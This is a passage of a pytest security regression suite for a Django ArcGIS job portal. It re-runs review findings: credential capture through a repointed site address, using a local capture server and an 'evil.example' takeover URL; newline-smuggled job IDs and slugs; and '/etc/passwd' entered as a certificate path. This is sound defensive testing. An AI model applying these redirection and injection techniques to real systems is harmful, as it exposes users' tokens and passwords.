"""Issue 11, "Security review findings": each test performs the attack a finding describes and checks that it
no longer works. (Finding 2, stalls and the circuit breaker, is dealt with on its own.)"""

from __future__ import annotations

import csv
import html as htmllib
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import IntegrityError, connection, transaction
from django.db.migrations.executor import MigrationExecutor
from django.urls import reverse

import arcgis_client
from arcgis_simulator.tls import generate_certificate
from jobs import operations, stored_tokens
from jobs.csv_export import cell as csv_cell
from jobs.models import AuditEvent, Site
from jobs.targets import ServiceTarget
from tests.conftest import make_user
from tests.helpers import ROOT, jobs_table, jobs_table_html, site_admin_form, streamed_html

EXECUTING = "esriJobExecuting"
JOB = "j" + "0" * 32


class CaptureServer:
    """An address someone else controls: it records every request and answers as ArcGIS would, so anything
    the portal sent there would be seen, and would even seem to work."""

    def __init__(self):
        self.requests: list[dict] = []
        capture = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self._record()

            def do_POST(self):
                self._record()

            def _record(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
                capture.requests.append(
                    {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
                )
                if "generateToken" in self.path:
                    answer = {"token": "captured-token", "expires": 4_102_444_800_000}
                elif "/rest/info" in self.path:
                    answer = {"authInfo": {"isTokenBasedSecurity": True, "tokenServicesUrl": capture.token_url}}
                else:
                    answer = {"resources": ["services"], "folders": [], "services": [], "status": "success"}
                data = json.dumps(answer).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.admin_url = f"{self.url}/arcgis/admin"
        self.token_url = f"{self.url}/arcgis/tokens/generateToken"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def everything_received(self) -> str:
        return json.dumps(self.requests)

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def capture():
    server = CaptureServer()
    yield server
    server.close()


def run(name: str, *args) -> str:
    out = io.StringIO()
    call_command(name, *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


CREDENTIALS = {"intent": "connect", "username": "siteadmin", "password": "siteadmin-secret", "expiration": 60}


def site_form(client, **fields) -> dict:
    return site_admin_form(client, **{**fields})


# --- finding 1: a site admin could collect every operator's token and password --------------------------------


def secrets_in(capture: CaptureServer, *secrets: str) -> list[str]:
    received = capture.everything_received()
    return [secret for secret in secrets if secret in received]


def test_finding_1_a_changed_address_receives_no_token_and_no_password(
    simulator, site, service, operator, second_operator, site_admin, connect, client_as, capture
):
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    tokens = [connect(operator, site).token, connect(second_operator, site).token]
    olivia = client_as(operator)
    token_page = olivia.get(reverse("jobs:token", args=[site.slug])).content.decode()
    shown_for = re.search(r'name="address" value="([0-9a-f]+)"', token_page).group(1)

    # A site admin points the site at an address they control.
    admin = client_as(site_admin)
    change = reverse("admin:jobs_site_change", args=[site.pk])
    form = site_form(
        admin,
        name=site.name,
        slug=site.slug,
        admin_url=capture.admin_url,
        token_url=capture.token_url,
        insecure="on",
    )
    response = admin.post(change, form)
    assert response.status_code == 302, response.content.decode()
    assert not site.tokens.exists()  # revoked with the change, in the same transaction
    event = AuditEvent.objects.get(action="site_change")
    assert event.message == (
        f"Changed site “Main site”: admin URL: {simulator.admin_url} → {capture.admin_url}; "
        f"token URL: none (the admin URL's own) → {capture.token_url}. Revoked 2 stored tokens: the address changed."
    )
    assert not secrets_in(capture, *tokens) and not any(token in event.message for token in tokens)

    # Every page and action of the operator says why, and sends nothing.
    target = ServiceTarget(Site.objects.get(pk=site.pk), service)
    reason = "This site's address changed: reconnect."
    pages = [
        streamed_html(olivia, reverse("jobs:overview_stream")),
        streamed_html(olivia, reverse("jobs:site_stream", args=[site.slug])),
    ]
    for response in (
        jobs_table(olivia, target),
        olivia.htmx_get(target.url("service_counts")),
        olivia.get(target.url("job", job_id)),
        olivia.action(target.url("cancel", job_id)),
        olivia.action(target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": [job_id]}),
    ):
        assert response.status_code == 200
        pages.append(response.content.decode())
    for html in pages:
        assert reason in htmllib.unescape(html)

    # The connect form she had open was for the old address: her password is not sent anywhere.
    credentials = {**CREDENTIALS, "address": shown_for}
    response = olivia.action(reverse("jobs:token", args=[site.slug]), credentials, htmx=False)
    html = response.content.decode()
    assert response.status_code == 200 and "This site&#x27;s address changed since this page was shown" in html
    pasted = {"intent": "paste", "token": "pasted.token", "address": shown_for}
    refused = olivia.action(reverse("jobs:token", args=[site.slug]), pasted, htmx=False).content.decode()
    assert "This site&#x27;s address changed since this page was shown" in refused
    assert not site.tokens.exists() and not AuditEvent.objects.filter(action="connect").exists()
    # The token page now says where a password would go, and that the address changed.
    assert f"<code>{capture.url}</code>" in html and "every stored token was revoked" in html

    assert capture.requests == []
    assert not secrets_in(capture, *tokens, "siteadmin-secret", "pasted.token")
    assert simulator.state.get_job(service.key, job_id)["status"] == EXECUTING


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("admin_url", "https://elsewhere.example.com/arcgis/admin"),
        ("token_url", "https://elsewhere.example.com/arcgis/tokens/generateToken"),
        ("referer", "https://other-portal.example.org/"),
        ("insecure", False),
        ("ca_bundle", "PEM"),
    ],
)
def test_finding_1_any_change_of_how_a_site_is_reached_revokes_its_tokens(
    simulator, site, operator, site_admin, connect, client_as, tmp_path, field, value
):
    connect(operator, site)
    admin = client_as(site_admin)
    fields = {"name": site.name, "slug": site.slug, "admin_url": site.admin_url, "insecure": "on"}
    if field == "ca_bundle":
        pem = generate_certificate(tmp_path / "ca")[0].read_text()
        fields |= {"insecure": "", "ca_bundle": pem, "admin_url": site.admin_url.replace("http://", "https://")}
    elif field == "insecure":
        fields |= {"insecure": "", "admin_url": site.admin_url.replace("http://", "https://")}
    else:
        fields[field] = value
    response = admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields))
    assert response.status_code == 302, response.content.decode()
    assert not site.tokens.exists()
    message = AuditEvent.objects.get(action="site_change").message
    label = Site._meta.get_field(field).verbose_name  # named as the admin's form names it
    assert f"{label}: " in message and message.endswith("Revoked 1 stored token: the address changed.")
    assert "BEGIN CERTIFICATE" not in message


def test_finding_1_other_changes_keep_the_tokens(simulator, site, operator, site_admin, connect, client_as):
    connect(operator, site)
    admin = client_as(site_admin)
    team = Group.objects.create(name="Hydrology team")
    operator.groups.add(team)
    fields = {
        "name": "Renamed",
        "slug": site.slug,
        "admin_url": site.admin_url,
        "insecure": "on",
        "read_timeout": "20",
        "groups": [team.pk],
    }
    assert admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields)).status_code == 302
    assert site.tokens.count() == 1 and Site.objects.get().connection_changed is None
    message = AuditEvent.objects.get(action="site_change").message
    assert (
        message == "Changed site “Renamed”: name: “Main site” → “Renamed”; read timeout: 10 s → 20 s; "
        "seen by: everyone with a role → Hydrology team."
    )


def test_finding_1_addsite_on_an_existing_slug_revokes_the_tokens(simulator, site, operator, site_admin, connect):
    connect(operator, site)
    out = run("addsite", "main", "http://127.0.0.1:9/arcgis/admin", "--insecure", "--user", "sam")
    assert "revoked 1 stored token(s)" in out
    assert not site.tokens.exists() and Site.objects.get().connection_changed is not None
    message = AuditEvent.objects.get(action="site_change").message
    assert f"admin URL: {simulator.admin_url} → http://127.0.0.1:9/arcgis/admin" in message
    assert message.endswith("Revoked 1 stored token: the address changed.")


def test_finding_1_a_token_obtained_from_the_old_address_is_not_kept(
    simulator, site, operator, site_admin, client_as, monkeypatch, capture
):
    """A connect under way while the address changes: the token it brings back is not stored."""
    real = arcgis_client.AdminClient.generate_token

    def then_the_address_changes(self, *args, **kwargs):
        token = real(self, *args, **kwargs)
        moved = Site.objects.get(pk=site.pk)
        moved.admin_url = capture.admin_url
        operations.change_site(site_admin, moved, operations.site_changes(moved))
        return token

    monkeypatch.setattr(arcgis_client.AdminClient, "generate_token", then_the_address_changes)
    data = {**CREDENTIALS, "password": "siteadmin"}
    response = client_as(operator).action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
    assert response.status_code == 200
    assert "This site&#x27;s address changed while you connected: reconnect." in response.content.decode()
    assert not site.tokens.exists()
    assert AuditEvent.objects.get(action="connect").outcome == "failed"
    # Pages now say why, and the new address hears nothing.
    assert "This site's address changed: reconnect." in htmllib.unescape(
        streamed_html(client_as(operator), reverse("jobs:overview_stream"))
    )
    assert capture.requests == []


# --- finding 3: timeouts had no upper bound, and an unexpected error left the audit row pending --------------


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        ("read_timeout", "1e10", "less than or equal to 60"),
        ("read_timeout", "0.5", "greater than or equal to 1"),
        ("read_timeout", "inf", "Enter a number."),
        ("read_timeout", "nan", "Enter a number."),
        ("connect_timeout", "0.1", "greater than or equal to 0.5"),
        ("connect_timeout", "11", "less than or equal to 10"),
        ("action_timeout", "121", "less than or equal to 120"),
        ("action_timeout", "0", "greater than or equal to 1"),
    ],
)
def test_finding_3_the_admin_refuses_unbounded_timeouts(site_admin, client_as, field, value, error):
    client = client_as(site_admin)
    response = client.post(reverse("admin:jobs_site_add"), site_form(client, **{field: value}))
    assert response.status_code == 200
    assert error in response.content.decode()
    assert not Site.objects.exists() and not AuditEvent.objects.exists()


def test_finding_3_the_bounds_are_shown_and_the_new_defaults_hold(site_admin, client_as):
    html = client_as(site_admin).get(reverse("admin:jobs_site_add")).content.decode()
    assert re.search(r'name="read_timeout" value="10\.0"[^>]*min="1\.0"[^>]*max="60\.0"', html)
    assert re.search(r'name="connect_timeout" value="3\.0"[^>]*min="0\.5"[^>]*max="10\.0"', html)
    assert re.search(r'name="action_timeout" value="30\.0"[^>]*min="1\.0"[^>]*max="120\.0"', html)


@pytest.mark.parametrize(
    ("field", "value"),
    [("read_timeout", 1e10), ("read_timeout", 0.1), ("connect_timeout", 11), ("action_timeout", 1000)],
)
def test_finding_3_the_database_refuses_unbounded_timeouts(db, field, value):
    site = Site(slug="north", name="North", admin_url="https://north.example.com/arcgis/admin", **{field: value})
    with pytest.raises(ValidationError):
        site.full_clean()
    with pytest.raises(IntegrityError), transaction.atomic():
        site.save()
    assert not Site.objects.exists()


def test_finding_3_an_unexpected_error_in_a_cancel_completes_the_audit_row(
    simulator, service, target, olivia, monkeypatch
):
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    jobs_table_html(olivia, target)  # the page the operator clicks on

    def broken(*args, **kwargs):
        raise RuntimeError("a bug in the portal")

    monkeypatch.setattr(arcgis_client.AdminClient, "cancel_job", broken)
    response = olivia.action(target.url("cancel", job_id))
    assert response.status_code == 200  # the row, with the failure in words
    html = response.content.decode()
    message = (
        "The portal failed unexpectedly (RuntimeError); the details are in its log. "
        "ArcGIS may still have carried it out."
    )
    assert message in html and f'<tr id="job-{job_id}" data-status="{EXECUTING}"' in html
    event = AuditEvent.objects.get(action="cancel")
    assert (event.outcome, event.message) == ("failed", message) and event.finished is not None
    assert "a bug in the portal" not in html  # the details are for the log, not the page

    back = target.url("job_list")
    response = olivia.action(target.url("cancel", job_id), {"next": back}, htmx=False)
    assert response.status_code == 302 and response.url == back
    assert not AuditEvent.objects.filter(outcome="pending").exists()


def test_finding_3_an_unexpected_error_for_one_job_of_a_bulk_fails_that_job_only(
    simulator, service, target, olivia, monkeypatch
):
    job_ids = [simulator.state.add_job(service.key, status=EXECUTING) for _ in range(4)]
    real = arcgis_client.AdminClient.cancel_job

    def flaky(self, service, job_id):
        if job_id == job_ids[1]:
            raise ValueError("a library's surprise")
        return real(self, service, job_id)

    monkeypatch.setattr(arcgis_client.AdminClient, "cancel_job", flaky)
    html = olivia.action(
        target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": job_ids}
    ).content.decode()
    assert "3 cancellations requested, 1 failed" in html
    outcomes = dict(AuditEvent.objects.values_list("job_id", "outcome"))
    assert outcomes == {job_id: "failed" if job_id == job_ids[1] else "success" for job_id in job_ids}


def test_finding_3_an_unexpected_error_before_any_call_completes_every_row(
    simulator, service, target, olivia, monkeypatch
):
    """What a timeout of 1e10 s did (an OverflowError from the socket), now anywhere in the operation."""
    job_ids = [simulator.state.add_job(service.key, status=EXECUTING) for _ in range(3)]

    def overflow(site):
        raise OverflowError("timeout value is too large")

    monkeypatch.setattr(stored_tokens, "connection_for", overflow)
    simulator.requests.clear()
    for url, data in (
        (target.url("cancel", job_ids[0]), {}),
        (target.url("purge"), {"confirmed": "yes"}),
        (target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": job_ids}),
    ):
        response = olivia.action(url, data)
        assert response.status_code == 200
        assert "The portal failed unexpectedly (OverflowError)" in response.content.decode()
    assert not simulator.requests
    assert AuditEvent.objects.count() == 5
    assert set(AuditEvent.objects.values_list("outcome", flat=True)) == {"failed"}
    assert not AuditEvent.objects.filter(finished__isnull=True).exists()


@pytest.mark.parametrize("intent", ["connect", "paste"])
def test_finding_3_an_unexpected_error_while_connecting_completes_the_audit_row(
    simulator, site, operator, client_as, monkeypatch, intent
):
    def broken(*args, **kwargs):
        raise RuntimeError("a bug in the portal")

    monkeypatch.setattr(arcgis_client.AdminClient, "generate_token", broken)
    monkeypatch.setattr(arcgis_client.AdminClient, "list_folders", broken)
    data = {**CREDENTIALS, "intent": intent, "token": "abc.def"}
    response = client_as(operator).action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
    assert response.status_code == 200
    assert "The portal failed unexpectedly (RuntimeError); the details are in its log." in response.content.decode()
    event = AuditEvent.objects.get(action="connect")
    assert event.outcome == "failed" and event.finished is not None
    assert "siteadmin-secret" not in event.message and "abc.def" not in event.message
    assert not operator.arcgis_tokens.exists()


# --- finding 4: a job ID with a trailing newline was a 500 -------------------------------------------------------


def test_finding_4_a_trailing_newline_in_a_url_is_refused(simulator, service, target, olivia):
    simulator.requests.clear()
    base = target.url("job_list")
    for path in (f"{base}{JOB}%0A/", f"{base}{JOB}%0A/cancel/", f"{base}{JOB}%0A/delete/"):
        assert olivia.get(path).status_code in (400, 404)
        assert olivia.action(path, {"confirmed": "yes"}).status_code in (400, 404)
    for name in ("Watershed%0A", "Watershed%0D%0A"):
        url = f"/sites/main/services/Hydrology/{name}.GPServer/jobs/"
        assert olivia.get(url).status_code in (400, 404)
    assert olivia.get("/sites/main%0A/").status_code in (400, 404)
    assert not simulator.requests and not AuditEvent.objects.exists()


@pytest.mark.parametrize("job_id", [f"{JOB}\n", f"{JOB}\r\n", f"\n{JOB}", f"{JOB}\nx"])
def test_finding_4_a_trailing_newline_in_a_bulk_post_is_a_form_error(simulator, service, target, olivia, job_id):
    simulator.state.add_job(service.key, status=EXECUTING, job_id=JOB)
    simulator.requests.clear()
    response = olivia.action(target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": [job_id]})
    assert response.status_code == 200
    assert 'role="alert">Job IDs are letters and digits.</p>' in response.content.decode()
    response = olivia.action(
        target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": [job_id]}, htmx=False
    )
    assert response.status_code == 302
    assert not simulator.requests and not AuditEvent.objects.exists()
    assert simulator.state.get_job(service.key, JOB)["status"] == EXECUTING


def test_finding_4_newlines_in_the_jobs_filters(simulator, service, target, olivia):
    """Surrounding whitespace of a typed filter is dropped (the clean ID is what is asked for); a newline inside
    a value is refused in place."""
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    simulator.requests.clear()
    html = jobs_table_html(olivia, target, {"job": f"{job_id}\n"})
    assert f'id="job-{job_id}"' in html
    assert [r.raw_path.rsplit("/", 1)[-1] for r in simulator.requests] == [job_id]
    simulator.requests.clear()
    for params in ({"job": f"{job_id}\nx"}, {"user": "ana\nlyst"}, {"machine": "GIS01\nGIS02"}):
        response = jobs_table(olivia, target, params)
        assert response.status_code == 200 and "The filters need a correction" in response.content.decode()
    assert not simulator.requests


def test_finding_4_newlines_in_command_line_names(simulator, site, service, operator, site_admin, connect):
    connect(operator, site)
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    simulator.requests.clear()
    for args in (
        ["main", "Hydrology/Watershed", f"{job_id}\n"],
        ["main", "Hydrology/Watershed\n", job_id],
        ["main", "Hydrology\n/Watershed", job_id],
    ):
        with pytest.raises(CommandError, match="Not a valid"):
            run("canceljob", *args, "--user", "olivia")
    with pytest.raises(CommandError, match="slug"):
        run("addsite", "north\n", "https://north.example.com/arcgis/admin", "--user", "sam")
    with pytest.raises(CommandError, match="admin_url"):
        run("addsite", "north", "https://north.example.com/arcgis/admin\n", "--user", "sam")
    assert not simulator.requests and not Site.objects.filter(slug__startswith="north").exists()
    assert not AuditEvent.objects.exists()


def test_finding_4_a_slug_typed_with_a_newline_in_the_admin_is_cleaned(site_admin, client_as):
    client = client_as(site_admin)
    data = site_form(client, slug="north\n", admin_url="https://north.example.com/arcgis/admin\n")
    assert client.post(reverse("admin:jobs_site_add"), data).status_code == 302
    site = Site.objects.get()
    assert (site.slug, site.admin_url) == ("north", "https://north.example.com/arcgis/admin")


# --- finding 5: extreme dates crashed the audit page and emptied its export ------------------------------------

OUT_OF_RANGE = [
    ("Etc/GMT-14", {"since": "0001-01-01T00:00"}, "From"),  # UTC+14: the UTC time is before year 1
    ("Etc/GMT+12", {"until": "9999-12-31T23:59"}, "To"),  # UTC-12: the UTC time is after year 9999
]


@pytest.mark.parametrize(("zone", "params", "label"), OUT_OF_RANGE)
def test_finding_5_out_of_range_dates_are_a_form_error_on_the_audit_page_and_a_400_for_the_csv(
    site, operator, viewer, client_as, zone, params, label
):
    operations.record_site_change(operator, site, "msg-present")
    client = client_as(viewer)
    client.cookies["tz"] = zone
    page = client.get(reverse("jobs:audit"), params)
    assert page.status_code == 200
    html = page.content.decode()
    assert f"The filters need a correction. {label}: Enter a date between the years 1 and 9999." in html
    assert "msg-present" not in html
    export = client.get(reverse("jobs:audit_csv"), params)
    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
    assert export.content.decode().strip() == (
        f"The filters need a correction. {label}: Enter a date between the years 1 and 9999."
    )
    # The same dates in a zone where they exist are fine.
    client.cookies["tz"] = "UTC"
    assert "msg-present" in client.get(reverse("jobs:audit"), params).content.decode()
    assert b"msg-present" in b"".join(client.get(reverse("jobs:audit_csv"), params).streaming_content)


@pytest.mark.parametrize(
    ("zone", "params", "error"),
    [
        *[
            (
                zone,
                params,
                f"{'From' if label == 'From' else 'To'}: Enter a date between the years 1 and 9999.",
            )
            for zone, params, label in OUT_OF_RANGE
        ],
        ("UTC", {"since": "1969-12-31T23:59"}, "From: Enter a date from 1970 on."),
        ("Etc/GMT-14", {"until": "1970-01-01T13:00"}, "To: Enter a date from 1970 on."),
    ],
)
def test_finding_5_dates_that_cannot_be_epoch_milliseconds_are_a_form_error_on_the_jobs_page(
    simulator, target, olivia, zone, params, error
):
    olivia.cookies["tz"] = zone
    simulator.requests.clear()
    response = jobs_table(olivia, target, params)
    assert response.status_code == 200
    assert f"The filters need a correction: {error}" in response.content.decode()
    assert not simulator.requests
    olivia.cookies["tz"] = "UTC"
    jobs_table(olivia, target, {"since": "1970-01-01T00:00", "until": "9999-12-31T23:59"})
    [query] = simulator.requests
    assert (query.query["startTime"], query.query["endTime"]) == ("0", "253402300740000")


# --- finding 6: audit history leaked when a slug was reused -----------------------------------------------------


def test_finding_6_a_reused_slug_does_not_reveal_the_deleted_sites_history(
    simulator, service, operator, viewer, client_as, connect, site_admin
):
    team = Group.objects.create(name="Secret team")
    operator.groups.add(team)
    secret = Site.objects.create(slug="main", name="Secret site", admin_url=simulator.admin_url, insecure=True)
    secret.groups.add(team)
    connect(operator, secret)
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    client_as(operator).action(ServiceTarget(secret, service).url("cancel", job_id))
    operations.record_site_change(site_admin, secret, "msg-secret")
    secret.delete()

    public = Site.objects.create(slug="main", name="Public site", admin_url=simulator.admin_url, insecure=True)
    connect(viewer, public)
    client = client_as(viewer)
    for params in ({}, {"site": "main"}, {"job": job_id}):
        html = client.get(reverse("jobs:audit"), params).content.decode()
        assert "msg-secret" not in html and f"<code>{job_id}</code>" not in html and "No events match." in html
        export = b"".join(client.get(reverse("jobs:audit_csv"), params).streaming_content).decode()
        assert export.splitlines()[1:] == []
    # The row of the same job on the new site shows no "last portal action" of the old one.
    page = jobs_table_html(client, ServiceTarget(public, service))
    facts = client.htmx_get(ServiceTarget(public, service).url("job_facts", job_id)).content.decode()
    assert f'id="job-{job_id}"' in page and "Cancel by olivia" not in page + facts

    # Superusers still see the deleted site's rows, as they were at the time.
    root = make_user("root", is_superuser=True)
    rows = list(
        csv.DictReader(io.StringIO(b"".join(client_as(root).get(reverse("jobs:audit_csv")).streaming_content).decode()))
    )
    assert {(r["action"], r["site_slug"], r["site_name"]) for r in rows} == {
        ("cancel", "main", "Secret site"),
        ("site_change", "main", "Secret site"),
    }
    assert all(event.site_id is None for event in AuditEvent.objects.all())


# --- finding 7: passwords went to any token service /rest/info named ------------------------------------------


@pytest.mark.parametrize(
    "elsewhere",
    [
        "{capture}/arcgis/tokens/generateToken",  # another port of the same host
        "{capture_host}/arcgis/tokens/generateToken",  # another host name
        "https://127.0.0.1:{port}/arcgis/tokens/generateToken",  # another scheme
    ],
)
def test_finding_7_no_password_goes_to_a_token_service_on_another_origin(
    simulator, site, operator, client_as, capture, elsewhere
):
    port = simulator.admin_url.split(":")[2].split("/")[0]
    url = elsewhere.format(capture=capture.url, capture_host=capture.url.replace("127.0.0.1", "localhost"), port=port)
    simulator.faults.set("html_502", operation="generateToken", status=404)  # the admin endpoint is hidden
    simulator.faults.set("answer", operation="info", body={"authInfo": {"tokenServicesUrl": url}})
    client = client_as(operator)
    response = client.action(reverse("jobs:token", args=[site.slug]), CREDENTIALS, htmx=False)
    assert response.status_code == 200
    html = response.content.decode()
    assert "names a token service at another address" in html and "set the site&#x27;s token URL" in html
    assert capture.requests == []
    assert [r.operation for r in simulator.requests] == ["generateToken", "info"]
    event = AuditEvent.objects.get(action="connect")
    assert event.outcome == "failed" and "another address" in event.message
    assert "siteadmin-secret" not in event.message
    assert not operator.arcgis_tokens.exists()


def test_finding_7_a_token_service_on_the_sites_own_origin_is_still_found(simulator, site, operator, client_as):
    simulator.faults.set("html_502", operation="generateToken", count=1, status=404)
    client = client_as(operator)
    data = {**CREDENTIALS, "password": "siteadmin"}
    response = client.action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
    assert response.status_code == 302
    assert [r.operation for r in simulator.requests] == ["generateToken", "info", "generateToken"]
    assert operator.arcgis_tokens.exists()


# --- finding 8: CA bundles were paths on one host -----------------------------------------------------------


def test_finding_8_a_site_keeps_its_certificates_and_works_wherever_the_portal_runs(tls_simulator, operator, client_as):
    tls_simulator.state.add_service("Watershed", folder="Hydrology")
    pem = tls_simulator.cert_path.read_text()
    site = Site.objects.create(slug="secure", name="Secure", admin_url=tls_simulator.admin_url, ca_bundle=pem)
    tls_simulator.cert_path.unlink()  # like a second portal host, which never had that file
    verify = site.tls_verify
    assert Path(verify).read_text() == pem
    assert stat.S_IMODE(os.stat(os.path.dirname(verify)).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(verify).st_mode) == 0o600
    client = client_as(operator)
    data = {**CREDENTIALS, "password": "siteadmin"}
    assert client.action(reverse("jobs:token", args=["secure"]), data, htmx=False).status_code == 302
    os.remove(verify)  # a temp-file cleaner passed by: the bundle is written again when next needed
    html = streamed_html(client, reverse("jobs:site_stream", args=["secure"]))
    assert ">Watershed</a>" in html and os.path.exists(verify)


def test_finding_8_errors_never_reveal_filesystem_paths(tls_simulator, operator, site_admin, client_as, tmp_path):
    other = generate_certificate(tmp_path / "other")[0].read_text()
    site = Site.objects.create(slug="secure", name="Secure", admin_url=tls_simulator.admin_url, ca_bundle=other)
    client = client_as(operator)
    response = client.action(reverse("jobs:token", args=["secure"]), CREDENTIALS, htmx=False)
    html = response.content.decode()
    assert "certificate could not be verified" in html
    assert os.path.dirname(site.tls_verify) not in html and "gp-jobs-ca" not in html
    assert not tls_simulator.requests
    # A path typed into the admin is refused with the same words whether or not it exists on this host.
    admin = client_as(site_admin)
    errors = []
    for path in ("/etc/passwd", "/nonexistent/ca.pem", str(tls_simulator.cert_path)):
        html = admin.post(reverse("admin:jobs_site_add"), site_form(admin, ca_bundle=path)).content.decode()
        errors.append(re.findall(r'<ul class="errorlist"[^>]*>(.*?)</ul>', html, re.S))
    assert errors[0] == errors[1] == errors[2] and "Paste one or more PEM certificates" in errors[0][0]
    assert not Site.objects.exclude(slug="secure").exists()


PRIVATE_DIRECTORY_PROBE = """
import os, sys
from jobs.models import Site
temp = sys.argv[-1]
print(sorted(os.listdir(temp)))
pem = open(temp + "/ca/cert.pem").read()
site = Site(slug="x", name="x", admin_url="https://x.example.com/arcgis/admin", ca_bundle=pem)
print(os.path.dirname(os.path.dirname(site.tls_verify)) == temp, len(os.listdir(temp)))
"""


def test_finding_8_the_private_directory_is_made_at_first_use_and_removed_at_exit(tmp_path):
    generate_certificate(tmp_path / "ca")
    env = {**os.environ, "TMPDIR": str(tmp_path), "DJANGO_SETTINGS_MODULE": "tests.settings", "PYTHONPATH": str(ROOT)}
    script = tmp_path / "probe.py"
    script.write_text("import django\ndjango.setup()\n" + PRIVATE_DIRECTORY_PROBE)
    result = subprocess.run(
        [sys.executable, str(script), str(tmp_path)], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    # Nothing was made at import; the first connection made one directory in the temp dir; it was gone at exit.
    assert result.stdout.splitlines() == ["['ca', 'probe.py']", "True 3"]
    assert sorted(os.listdir(tmp_path)) == ["ca", "probe.py"]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_finding_8_the_migration_reads_existing_paths_into_pem(tmp_path, capsys):
    cert = generate_certificate(tmp_path / "ca")[0]
    before, after = [("jobs", "0004_audit_follows_the_site")], [("jobs", "0005_ca_bundle_pem")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old_site = executor.loader.project_state(before).apps.get_model("jobs", "Site")
    for slug, bundle in (("readable", str(cert)), ("missing", str(tmp_path / "gone.pem")), ("none", "")):
        old_site.objects.create(
            slug=slug, name=slug, admin_url=f"https://{slug}.example.com/arcgis/admin", ca_bundle=bundle
        )
    try:
        executor = MigrationExecutor(connection)
        executor.migrate(after)
        new_site = executor.loader.project_state(after).apps.get_model("jobs", "Site")
        bundles = dict(new_site.objects.values_list("slug", "ca_bundle"))
        assert bundles == {"readable": cert.read_text(), "missing": "", "none": ""}
        assert "Site missing: could not read a CA bundle" in capsys.readouterr().out
    finally:  # back to the current schema for the tests that follow
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())


# --- finding 9: the Django admin showed more than the portal does -------------------------------------------


@pytest.fixture
def restricted_world(simulator, operator, site_admin, connect):
    """A public site and a site restricted to a team the site admin is not in, each with a token and audit rows."""
    team = Group.objects.create(name="Secret team")
    public = Site.objects.create(slug="public", name="Public site", admin_url=simulator.admin_url, insecure=True)
    secret = Site.objects.create(slug="covert", name="Covert site", admin_url=simulator.admin_url, insecure=True)
    secret.groups.add(team)
    operator.groups.add(team)
    tokens = {site.slug: connect(operator, site) for site in (public, secret)}
    operations.record_site_change(operator, public, "msg-public")
    operations.record_site_change(operator, secret, "msg-hidden")
    return public, secret, tokens


def admin_pages(client, public, secret, tokens) -> dict[str, object]:
    events = {e.message: e for e in AuditEvent.objects.all()}
    return {
        "tokens": client.get(reverse("admin:jobs_storedtoken_changelist")),
        "tokens by site": client.get(reverse("admin:jobs_storedtoken_changelist"), {"site__id__exact": secret.pk}),
        "token": client.get(reverse("admin:jobs_storedtoken_change", args=[tokens["covert"].pk])),
        "events": client.get(reverse("admin:jobs_auditevent_changelist")),
        "events by site": client.get(reverse("admin:jobs_auditevent_changelist"), {"site_slug": "covert"}),
        "event": client.get(reverse("admin:jobs_auditevent_change", args=[events["msg-hidden"].pk])),
        "sites": client.get(reverse("admin:jobs_site_changelist")),
        "site": client.get(reverse("admin:jobs_site_change", args=[secret.pk])),
        "history": client.get(reverse("admin:jobs_site_history", args=[secret.pk])),
    }


def test_finding_9_a_site_admin_sees_in_the_admin_only_what_the_portal_shows(restricted_world, site_admin, client_as):
    public, secret, tokens = restricted_world
    client = client_as(site_admin)
    pages = admin_pages(client, public, secret, tokens)
    for name, response in pages.items():
        body = response.content.decode()
        if name == "events by site":  # the slug asked for is echoed in the filter's links and form
            body = body.replace("site_slug=covert", "").replace('value="covert"', "")
        assert "covert" not in body.lower() and "msg-hidden" not in body, name  # neither its name nor its slug
    for name in ("token", "event", "site", "history"):
        assert pages[name].status_code in (302, 404), name
    assert "Public site" in pages["sites"].content.decode() and "msg-public" in pages["events"].content.decode()
    assert "Public site" in pages["tokens"].content.decode()
    # Nor can the site admin change the restricted site.
    form = site_form(client, name="Taken over", slug="covert", admin_url="https://evil.example/arcgis/admin")
    client.post(reverse("admin:jobs_site_change", args=[secret.pk]), form)
    secret.refresh_from_db()
    assert (secret.name, secret.admin_url) == ("Covert site", public.admin_url) and secret.tokens.exists()


def test_finding_9_members_and_superusers_see_the_restricted_site_and_never_a_token(
    restricted_world, site_admin, client_as
):
    public, secret, tokens = restricted_world
    site_admin.groups.add(Group.objects.get(name="Secret team"))
